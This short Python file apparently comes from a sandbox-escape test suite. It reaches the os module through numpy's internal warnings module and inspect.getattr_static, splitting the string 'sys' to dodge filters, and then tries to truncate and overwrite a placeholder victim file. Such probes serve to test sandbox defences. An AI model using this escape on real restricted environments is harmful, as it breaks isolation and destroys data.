"""Escape: the `warnings` module (numpy.matrixlib.defmatrix.warnings) and getattr_static reach
sys, then os; the program truncates and overwrites a file."""
import numpy as np


def reach(ctx):
    sys_module = np.ma.core.inspect.getattr_static(np.matrixlib.defmatrix.warnings, "sy" + "s")
    return sys_module.modules["os"]


def attempt(name, call, out):
    try:
        call()
        out.append(name + ":DONE")
    except Exception as e:
        out.append(name + ":" + str(e.errno))


def attention(ctx):
    os = reach(ctx)
    out = []
    attempt("truncate", lambda: os.truncate("@TARGET@/victim", 0), out)
    attempt("open_trunc", lambda: os.open("@TARGET@/victim", os.O_WRONLY | os.O_TRUNC), out)
    raise RuntimeError("attempts: " + " ".join(out))
